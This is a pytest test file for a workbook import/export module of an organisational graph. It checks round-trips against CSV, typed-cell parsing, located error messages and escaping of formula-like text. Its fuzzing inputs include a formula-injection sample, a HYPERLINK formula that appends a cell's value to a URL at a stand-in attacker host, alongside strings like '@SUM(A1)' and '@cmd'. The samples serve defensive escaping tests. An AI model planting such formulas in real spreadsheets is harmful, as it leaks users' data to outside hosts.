"""The interchange format as a workbook (reports/interchange_xlsx.py): written typed, read back
into exactly the rows the CSV path reads, checked by the same pipeline with the same messages.

Unit tests write and read real workbooks (no engine): hypothesis-made records through a
workbook and through CSV files give the same parsed rows; cells a user typed (numbers in id
columns, real dates, booleans) read as the CSV text; errors name workbook, sheet and row. The
engine tests export the demo as a workbook, check it with openpyxl, and import it into an
empty graph: its CSV export is the demo's, byte for byte.
"""

from __future__ import annotations

import tempfile
from datetime import date, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import xlsxwriter
from conftest import GraphHandle
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from graph.exporter import Table, column_types, export_directory, text_table, write_file
from graph.importer import ImportFailed, import_source
from graph.interchange import ParsedDirectory, located, read_directory, read_source
from reports.interchange_xlsx import (
    BadWorkbook,
    WorkbookSource,
    cell_text,
    column_width,
    export_workbook,
    write_workbook,
)
from schema.ontology import ClassSpec, PropertySpec, default_ontology
from schema.values import MAX_LINE, MAX_YEAR, MIN_YEAR, clean_text, format_text

ONTOLOGY = default_ontology()
#: the classes the property test makes records of: text, long text, ids, ints, floats (of
#: both signs), booleans, dates, enums and reference columns between them
CLASSES = [ONTOLOGY.cls(n) for n in ("Department", "Position", "Employee", "KeyResult")]
REQUIREMENT = next(r for r in ONTOLOGY.relationship_files()
                   if r.imports.file == "position_requirements.csv")

# -- values as the graph stores them -----------------------------------------------------------

_CHARS = st.characters(blacklist_categories=("Cs", "Cc"),
                       blacklist_characters="\u2028\u2029\ufffe\uffff")
_AWKWARD = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "+1", "-1", "@SUM(A1)",
            "'=x", "''+y", "'", "00123", "中文名称", "第一行", "_x0041_", "1e5", "TRUE",
            "2021-03-05", " "]


def _text(spec: PropertySpec) -> st.SearchStrategy[str]:
    """A stored text: cleaned (NFC, trimmed), not empty (that is no value), within its
    length; long texts hold tabs and
    line breaks and run to a few thousand characters (Excel's 255-character limit on
    formula strings does not touch text cells)."""
    piece = st.one_of(st.text(_CHARS, max_size=12), st.sampled_from(_AWKWARD),
                      *([st.sampled_from(["\n", "\t", "行\n"])] if spec.long else []))
    parts = st.lists(piece, min_size=1, max_size=8).map("".join)
    if spec.long:
        parts = st.one_of(parts, st.builds(lambda u, n: u * n, st.sampled_from(["长文本 ", "=a\n"]),
                                           st.integers(60, 900)))
    limit = 4000 if spec.long else MAX_LINE
    return parts.map(lambda t: clean_text(t, spec.long)[:limit].strip()).filter(bool)


def _value(spec: PropertySpec) -> st.SearchStrategy[Any]:
    if spec.enum is not None:
        return st.sampled_from(spec.enum)
    if spec.pattern is not None:
        return st.from_regex(spec.pattern, fullmatch=True)
    if spec.type == "string":
        return _text(spec)
    if spec.type == "integer":
        return st.integers(int(spec.min if spec.min is not None else -(2**31)),
                           int(spec.max if spec.max is not None else 2**31 - 1))
    if spec.type == "float":
        low = spec.min if spec.min is not None else -1e300
        high = spec.max if spec.max is not None else 1.7976931348623157e308
        special = [v for v in (0.1, 0.30000000000000004, 1e-7, 5e-324, -5.0, 100.0,
                               1.7976931348623157e308, 123456789.123456789)
                   if low <= v <= high]
        return st.one_of(st.floats(low, high, allow_nan=False, allow_infinity=False),
                         st.sampled_from(special))
    if spec.type == "boolean":
        return st.booleans()
    return st.dates(date(MIN_YEAR, 1, 1), date(MAX_YEAR, 12, 31))


_IDS = st.one_of(st.from_regex(r"0{1,3}[0-9]{1,5}", fullmatch=True),
                 st.from_regex(r"[A-Z名][a-z0-9_.:-]{0,8}", fullmatch=True))


@st.composite
def _records(draw: st.DrawFn, spec: ClassSpec) -> list[dict[str, Any]]:
    ids = draw(st.lists(_IDS, min_size=1, max_size=4, unique=True))
    records = []
    for key in ids:
        values = {name: draw(_value(p) if p.required else st.one_of(st.none(), _value(p)))
                  for name, p in spec.properties.items() if name != spec.key}
        values[spec.key] = key
        records.append(values)
    return records


def _cells(spec: ClassSpec, values: dict[str, Any]) -> list[str]:
    refs = {"department_id": "D1", "objective_id": "O1"}  # references left for the graph
    return [format_text(values.get(c)) if c in spec.properties else refs.get(c, "")
            for c in spec.columns]


def _tables(records: dict[str, list[dict[str, Any]]],
            requirements: list[dict[str, Any]]) -> list[Table]:
    tables = [text_table(spec.file, spec.columns, column_types(spec.columns, spec.properties),
                         [_cells(spec, v) for v in records[spec.name]]) for spec in CLASSES]
    rel = REQUIREMENT
    lines = [[f"P{i}", "C1", *(format_text(v.get(p)) for p in rel.properties)]
             for i, v in enumerate(requirements)]
    tables.append(text_table(rel.imports.file, rel.columns,
                             column_types(rel.columns, rel.properties), lines))
    return tables


def _stored(spec: PropertySpec, value: Any) -> Any:
    return spec.default if value is None else value


def _through_both(tables: list[Table], tmp: Path) -> tuple[ParsedDirectory, ParsedDirectory]:
    """The tables written as a workbook and as CSV files, each read back."""
    book, directory = tmp / "org.xlsx", tmp / "csv"
    write_workbook(book, tables)
    directory.mkdir()
    for table in tables:
        write_file(directory / table.file, table.columns, table.lines)
    with WorkbookSource(book) as source:
        from_book = read_source(source, ONTOLOGY)
    return from_book, read_directory(directory, ONTOLOGY)


@settings(max_examples=60, deadline=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(records=st.fixed_dictionaries({spec.name: _records(spec) for spec in CLASSES}),
       requirements=st.lists(st.fixed_dictionaries(
           {name: _value(p) if p.required else st.one_of(st.none(), _value(p))
            for name, p in REQUIREMENT.properties.items()}), max_size=3))
def test_records_survive_a_workbook_as_they_survive_csv(
        records: dict[str, list[dict[str, Any]]], requirements: list[dict[str, Any]]) -> None:
    """Ids with leading zeros, dates 1900-2100, Chinese, text of thousands of characters,
    text starting with = + - @ or quotes, floats needing 17 digits: the workbook gives the
    very rows the CSV files give, and those hold the values as stored."""
    with tempfile.TemporaryDirectory() as tmp:
        from_book, from_csv = _through_both(_tables(records, requirements), Path(tmp))
    assert from_book.problems == [] and from_csv.problems == []
    assert from_book.warnings == from_csv.warnings == []
    for spec in CLASSES:
        rows = from_book.nodes[spec.name].rows
        assert rows == from_csv.nodes[spec.name].rows
        assert [r["props"] for r in rows] == [
            {n: _stored(p, v.get(n)) for n, p in spec.properties.items()}
            for v in records[spec.name]]
    book_rels = {name: batch.rows for name, batch in from_book.rels.items()}
    assert book_rels == {name: batch.rows for name, batch in from_csv.rels.items()}
    assert [r["props"] for r in book_rels[REQUIREMENT.name]] == [
        {n: _stored(p, v.get(n)) for n, p in REQUIREMENT.properties.items()}
        for v in requirements]
    assert from_book.files_read == from_csv.files_read


# -- cells a person typed ------------------------------------------------------------------------

def _book(path: Path, sheets: dict[str, list[list[Any]]]) -> Path:
    """A workbook as a spreadsheet program leaves it: cells of any type, written with
    XlsxWriter's typed methods (``None``: an empty cell)."""
    book = xlsxwriter.Workbook(str(path))
    day = book.add_format({"num_format": "yyyy-mm-dd"})
    for name, rows in sheets.items():
        sheet = book.add_worksheet(name)
        for r, row in enumerate(rows):
            for c, value in enumerate(row):
                if value is None:
                    continue
                if isinstance(value, bool):
                    sheet.write_boolean(r, c, value)
                elif isinstance(value, int | float):
                    sheet.write_number(r, c, value)
                elif isinstance(value, date):
                    sheet.write_datetime(r, c, value, day)
                else:
                    sheet.write_string(r, c, value)
    book.close()
    return path


EMPLOYEES = ["id", "name", "hire_date", "education", "major", "years_experience", "potential",
             "flight_risk"]


def _read(path: Path) -> ParsedDirectory:
    """The workbook read and checked, its problems and warnings located as an import does."""
    with WorkbookSource(path) as source:
        parsed = read_source(source, ONTOLOGY)
        parsed.problems = [located(p, source) for p in parsed.problems]
        parsed.warnings = [located(p, source) for p in parsed.warnings]
    return parsed


def test_cells_a_user_typed_read_as_the_csv_text(tmp_path: Path) -> None:
    """A number in the id column is ``123`` (not ``123.0``), a real date in a date column
    the date, a whole float in a number column the number, an Excel boolean in a boolean
    column true/false, a number typed into a text column its text; a text cell typed
    ``'=x`` (the escape) is ``=x``."""
    book = _book(tmp_path / "typed.xlsx", {
        "employees": [EMPLOYEES,
                      [123, "张三", date(2021, 3, 5), 2024, None, 3.0, "high", None],
                      ["00123", "'=x", "2020-01-02", None, None, 2.5, None, None]],
        "positions": [["id", "title", "department_id", "grade", "category", "headcount",
                       "is_key"],
                      ["P1", "工程师", 7, 6.0, "technical", 2, True]]})
    parsed = _read(book)
    assert parsed.problems == []
    assert [r["props"] for r in parsed.nodes["Employee"].rows] == [
        {"id": "123", "name": "张三", "hire_date": date(2021, 3, 5), "education": "2024",
         "major": None, "years_experience": 3.0, "potential": "high", "flight_risk": None},
        {"id": "00123", "name": "=x", "hire_date": date(2020, 1, 2), "education": None,
         "major": None, "years_experience": 2.5, "potential": None, "flight_risk": None}]
    position = parsed.nodes["Position"].rows[0]["props"]
    assert (position["grade"], position["is_key"], position["headcount"]) == (6, True, 2)
    assert parsed.unresolved["Department"] == {"7": parsed.unresolved["Department"]["7"]}


def test_errors_name_the_workbook_the_sheet_and_the_row(tmp_path: Path) -> None:
    """The same checks and words as the CSV path; the row is the sheet's row (header 1)."""
    book = _book(tmp_path / "org.xlsx", {
        "employees": [EMPLOYEES,
                      ["E1", "甲", "2021-01-01"],
                      ["E2", "乙", None, None, None, -1],
                      ["E3", "丙", "2021-13-01"],
                      [None, None, None],  # a blank row is skipped, as in a CSV file
                      ["E1", "丁"]],
        "positions": [["id", "title", "department_id", "grade", "category", "headcount"],
                      ["P1", "t", "D1", "six", "technical", 1.5]],
        "Notes": [["anything"]],
        "kpis": []})
    parsed = _read(book)
    assert [str(p) for p in parsed.problems] == [
        "org.xlsx:employees:3: column years_experience: -1.0 is below the minimum 0",
        "org.xlsx:employees:4: column hire_date: '2021-13-01' is not a valid calendar date",
        "org.xlsx:employees:6: column id: duplicate of line 2 (E1)",
        "org.xlsx:kpis:1: the sheet is empty (no header row)",
        "org.xlsx:positions:2: column grade: 'six' is not a whole number",
        "org.xlsx:positions:2: column headcount: '1.5' is not a whole number",
    ]
    assert [str(w) for w in parsed.warnings] == ["org.xlsx:Notes:0: unknown sheet, ignored"]


def test_a_sheet_wider_than_its_header_and_a_header_below_blank_rows(tmp_path: Path) -> None:
    """Cells right of the header that are empty are no extra cells; a value there is, as in
    a CSV row with more cells than the header; a header not in row 1 is no header."""
    book = _book(tmp_path / "org.xlsx", {
        "certificates": [["id", "name", "issuer", None, None],
                         ["C1", "焊工证", None, None, None],
                         ["C2", "电工证", None, None, "note"]],
        "competencies": [[], [], ["id", "name"], ["K1", "x"]]})
    parsed = _read(book)
    assert [str(p) for p in parsed.problems] == [
        "org.xlsx:certificates:3: 5 cells but the header has 3 columns",
        "org.xlsx:competencies:1: column id: required column is missing",
        "org.xlsx:competencies:1: column name: required column is missing"]
    assert [r["key"] for r in parsed.nodes["Certificate"].rows] == ["C1"]


@pytest.mark.parametrize("content", [b"", b"id,name\nE1,x\n", b"PK\x03\x04 broken zip"])
def test_a_file_that_is_no_workbook_is_one_clear_error(tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "org.xlsx"
    path.write_bytes(content)
    with pytest.raises(BadWorkbook, match=r"org\.xlsx: not a readable \.xlsx workbook"):
        WorkbookSource(path)
    with pytest.raises(BadWorkbook, match=r"org\.xlsx: no such file"):
        WorkbookSource(tmp_path / "missing" / "org.xlsx")


@pytest.mark.parametrize(("value", "text"), [
    (3.0, "3"), (0.1, "0.1"), (-5.0, "-5"), (1e20, "100000000000000000000"), (True, "true"),
    (False, "false"), (date(1900, 1, 1), "1900-01-01"), (datetime(2021, 3, 5), "2021-03-05"),
    (datetime(2021, 3, 5, 8, 30), "2021-03-05 08:30:00"), (7, "7"), ("00123", "00123")])
def test_cell_text(value: object, text: str) -> None:
    assert cell_text(value) == text


def test_column_widths_count_chinese_twice_and_are_capped() -> None:
    assert column_width("id", "string", ["E1"]) == 6
    assert column_width("name", "string", ["张三丰"]) == 8
    assert column_width("description", "string", ["x" * 500]) == 60
    assert column_width("hire_date", "date", ["2021-01-01"]) == 12


# -- the demo, exported and imported ---------------------------------------------------------

@pytest.fixture(scope="module")
def demo_book(demo_graph: GraphHandle, tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("xlsx") / "demo.xlsx"
    demo_graph.run(lambda g: export_workbook(g, path))
    return path


def _csv_files(directory: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(directory.glob("*.csv"))}


def test_the_demo_round_trips_through_a_workbook_byte_for_byte(
        demo_graph: GraphHandle, empty_graph: GraphHandle, demo_book: Path,
        tmp_path: Path) -> None:
    """export xlsx -> import into an empty graph -> export csv == the demo's csv export."""
    demo_graph.run(lambda g: export_directory(g, tmp_path / "demo"))
    with WorkbookSource(demo_book) as source:
        report = empty_graph.run(lambda g: import_source(g, source))
    assert report.warnings == []
    assert report.files["demo.xlsx:employees"] == 300
    empty_graph.run(lambda g: export_directory(g, tmp_path / "again"))
    expected, got = _csv_files(tmp_path / "demo"), _csv_files(tmp_path / "again")
    assert set(got) == set(ONTOLOGY.files()) == set(expected)
    for name in expected:
        assert got[name] == expected[name], name


def test_the_demo_workbook_is_typed_frozen_and_filtered(demo_book: Path) -> None:
    """Read with openpyxl: a sheet per file in the export's order, bold frozen header with an
    autofilter, widths set, ids and text as strings, dates as dates, numbers as numbers,
    booleans as booleans."""
    book = openpyxl.load_workbook(demo_book)
    assert book.sheetnames == [f.removesuffix(".csv") for f in ONTOLOGY.files()] + [
        "audit_events"]
    for spec in ONTOLOGY.classes.values():
        sheet = book[spec.file.removesuffix(".csv")]
        assert [c.value for c in sheet[1]] == list(spec.columns)
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref is not None and sheet.auto_filter.ref.startswith("A1:")
        assert all(c.font.b for c in sheet[1])
        widths = [sheet.column_dimensions[openpyxl.utils.get_column_letter(i + 1)].width
                  for i in range(len(spec.columns))]
        assert all(6 <= w <= 61 for w in widths), widths
    employees = book["employees"]
    columns = [c.value for c in employees[1]]
    first = {col: cell for col, cell in zip(columns, employees[2], strict=True)}
    assert first["id"].data_type == "s" and isinstance(first["id"].value, str)
    assert first["name"].data_type == "s"
    assert first["hire_date"].is_date and first["hire_date"].number_format == "yyyy-mm-dd"
    assert isinstance(first["hire_date"].value, datetime)
    assert isinstance(first["years_experience"].value, int | float)
    positions = book["positions"]
    header = [c.value for c in positions[1]]
    row = {col: cell.value for col, cell in zip(header, positions[2], strict=True)}
    assert isinstance(row["grade"], int) and isinstance(row["is_key"], bool)


def test_an_import_of_a_bad_workbook_writes_nothing(empty_graph: GraphHandle,
                                                    tmp_path: Path) -> None:
    book = _book(tmp_path / "bad.xlsx", {
        "departments": [["id", "name", "parent_id"], ["D1", "总经办", None],
                        ["D2", "=1+1", "D9"]],
        "employees": [EMPLOYEES, ["E1", "甲", "2021-02-30"]]})
    with WorkbookSource(book) as source, pytest.raises(ImportFailed) as failed:
        empty_graph.run(lambda g: import_source(g, source))
    assert [str(p) for p in failed.value.problems] == [
        "bad.xlsx:departments:3: column parent_id: Department 'D9' exists neither in the "
        "files nor in the graph",
        "bad.xlsx:employees:2: column hire_date: '2021-02-30' is not a valid calendar date"]
    assert empty_graph.count("Department") == 0



def test_text_that_looks_like_a_formula_is_an_escaped_text_cell(tmp_path: Path) -> None:
    """Read with openpyxl, as Excel would open it: ``=SUM(A1)`` is the text ``'=SUM(A1)``
    (never a formula), a negative number a number, ``00123`` a text; read back by the
    importer, the values as stored."""
    spec = ONTOLOGY.cls("KeyResult")
    stored = {"id": "00123", "objective_id": "O1", "title": "=SUM(A1)", "unit": "@cmd",
              "direction": "lower_is_better", "start": "-5", "target": "-0.5",
              "current": "", "weight": "1"}
    table = text_table(spec.file, spec.columns, column_types(spec.columns, spec.properties),
                       [[stored[c] for c in spec.columns]])
    write_workbook(tmp_path / "org.xlsx", [table])
    sheet = openpyxl.load_workbook(tmp_path / "org.xlsx")["key_results"]
    cells = {c.value: cell for c, cell in zip(sheet[1], sheet[2], strict=True)}
    assert (cells["title"].value, cells["title"].data_type) == ("'=SUM(A1)", "s")
    assert (cells["unit"].value, cells["unit"].data_type) == ("'@cmd", "s")
    assert (cells["id"].value, cells["id"].data_type) == ("00123", "s")
    assert (cells["start"].value, cells["start"].data_type) == (-5, "n")
    assert cells["target"].value == -0.5 and cells["current"].value is None
    props = _read(tmp_path / "org.xlsx").nodes["KeyResult"].rows[0]["props"]
    assert (props["title"], props["unit"], props["start"], props["target"]) == \
        ("=SUM(A1)", "@cmd", -5.0, -0.5)
